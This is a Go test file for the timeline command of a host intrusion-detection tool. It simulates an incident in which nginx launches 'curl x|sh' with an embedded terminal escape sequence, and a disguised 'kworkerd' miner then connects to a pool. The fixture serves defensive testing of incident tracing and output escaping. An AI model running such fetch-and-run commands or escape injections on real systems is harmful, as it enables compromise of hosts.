package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/deminer/deminer"
	"github.com/deminer/deminer/internal/history"
)

// past writes a history in which a web server was used to fetch and start a program, and gives the state directory.
func past(t *testing.T) string {
	t.Helper()
	state := t.TempDir()
	if err := writePast(state); err != nil {
		t.Fatal(err)
	}
	return state
}

func writePast(state string) error {
	if err := os.MkdirAll(filepath.Join(state, historyDir), 0o700); err != nil {
		return err
	}
	dir, err := os.OpenRoot(filepath.Join(state, historyDir))
	if err != nil {
		return err
	}
	defer dir.Close()
	now := time.Date(2026, 3, 1, 3, 0, 0, 0, time.UTC)
	s, err := history.Open(dir, history.Options{Now: func() time.Time { return now }})
	if err != nil {
		return err
	}
	started := func(pid, parent int, argv ...deminer.Raw) {
		now = now.Add(time.Second)
		s.Put(deminer.Event{Kind: deminer.EventExec, Time: now, Proc: deminer.ProcID{PID: pid, Start: uint64(pid)}, Parent: parent, Exe: argv[0], Argv: argv, UID: 33})
	}
	s.Seen(&deminer.Process{ID: deminer.ProcID{PID: 1, Start: 1}, Exe: "/usr/lib/systemd/systemd", Started: now})
	s.Seen(&deminer.Process{ID: deminer.ProcID{PID: 100, Start: 2}, PPID: 1, Exe: "/usr/sbin/nginx", Unit: "nginx.service", Started: now})
	started(800, 100, "/bin/sh", "-c", "curl x|sh\x1b]0;owned\a")
	started(801, 800, "/usr/bin/curl", "http://x")
	started(802, 800, "/tmp/.x/kworkerd")
	s.Put(deminer.Event{Kind: deminer.EventConnect, Time: now, Proc: deminer.ProcID{PID: 802, Start: 802}, Exe: "/tmp/.x/kworkerd", Proto: "tcp", Remote: "192.0.2.7:3333"})
	s.Alert(history.Entry{Event: deminer.Event{Time: now, Proc: deminer.ProcID{PID: 802, Start: 802}, Exe: "/tmp/.x/kworkerd"}, Alert: &history.Alert{ID: "a1", Incident: "f00d", Text: "logs in at a pool", Done: "cut"}})
	started(900, 1, "/usr/bin/uptime")
	return s.Close()
}

// TestTimeline: an incident is shown back to where it came in, and nothing else.
func TestTimeline(t *testing.T) {
	state := past(t)
	call := func(want int, a ...string) string {
		t.Helper()
		var out, errs bytes.Buffer
		if got := run(context.Background(), append(a, "--state", state), nil, &out, &errs); got != want {
			t.Fatalf("%v: exit %d, want %d: %s", a, got, want, errs.String())
		}
		for _, b := range out.Bytes() {
			if b < ' ' && b != '\n' {
				t.Fatalf("%v: raw byte %x in %q", a, b, out.String())
			}
		}
		return out.String() + errs.String()
	}
	got := call(exitClean, "timeline", "--incident", "f00d")
	for _, want := range []string{"nginx.service  <- entry: web server", "└─ 802 kworkerd", "├─ 801 curl", "-> 192.0.2.7:3333", "logs in at a pool (cut) [incident f00d]", `curl x|sh\x1b]0;owned\x07`} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in\n%s", want, got)
		}
	}
	if strings.Contains(got, "uptime") {
		t.Errorf("a stranger in\n%s", got)
	}
	if got := call(exitClean, "timeline", "--since", "2026-03-01", "--remote", "192.0.2.7"); strings.Count(got, "\n") != 1 || !strings.Contains(got, "kworkerd") {
		t.Errorf("one connection, not\n%s", got)
	}
	if got := call(exitClean, "timeline", "--json", "--pid", "801"); !strings.Contains(got, `"came_in": "web server"`) && !strings.Contains(got, `"came_in":"web server"`) {
		t.Errorf("no entry in\n%s", got)
	}
	if got := call(exitUsage, "timeline", "--since", "soon"); !strings.Contains(got, "is no time") {
		t.Error(got)
	}
	call(exitUsage, "timeline", "--kind", "nothing")
	call(exitUsage, "timeline", "--path", "etc")
	call(exitUsage, "timeline", "--pid", "x")
	name := filepath.Join(state, historyDir, "tail")
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	b[len(b)/2] ^= 1
	if err := os.WriteFile(name, b, 0o600); err != nil {
		t.Fatal(err)
	}
	if got := call(exitClean, "doctor"); !strings.Contains(got, "-    history ") {
		t.Errorf("doctor does not name it:\n%s", got)
	}
}

// TestTimelineSaysThatThereIsMore than a tree can show.
func TestTimelineSaysThatThereIsMore(t *testing.T) {
	dir, err := os.OpenRoot(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer dir.Close()
	now := time.Date(2026, 3, 1, 3, 0, 0, 0, time.UTC)
	s, err := history.Open(dir, history.Options{Now: func() time.Time { return now }})
	if err != nil {
		t.Fatal(err)
	}
	const many = 300
	for pid := 2; pid < 2+many; pid++ {
		name := deminer.Raw("/opt/job" + strconv.Itoa(pid))
		s.Put(deminer.Event{Kind: deminer.EventExec, Time: now, Proc: deminer.ProcID{PID: pid, Start: uint64(pid)}, Parent: 1, Exe: name, Argv: []deminer.Raw{name}})
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	f := &flags{}
	cmd := newTimeline(f)
	var out, errs bytes.Buffer
	cmd.SetOut(&out)
	cmd.SetErr(&errs)
	const more = "there is more than is shown"
	if err := showTimeline(cmd, f, history.Read(dir), history.Filter{}, true); err != nil || !strings.Contains(errs.String(), more) {
		t.Errorf("%d processes: %v %q", many, err, errs.String())
	}
	errs.Reset()
	if err := showTimeline(cmd, f, history.Read(dir), history.Filter{PID: 7}, true); err != nil || strings.Contains(errs.String(), more) || !strings.Contains(out.String(), "job7") {
		t.Errorf("one process: %v %q", err, errs.String())
	}
}

// TestTimelineWithout a history says that there is none.
func TestTimelineWithout(t *testing.T) {
	var out, errs bytes.Buffer
	if got := run(context.Background(), []string{"timeline", "--state", t.TempDir()}, nil, &out, &errs); got != exitError || !strings.Contains(errs.String(), "there is no history") {
		t.Errorf("exit %d: %s", got, errs.String())
	}
}
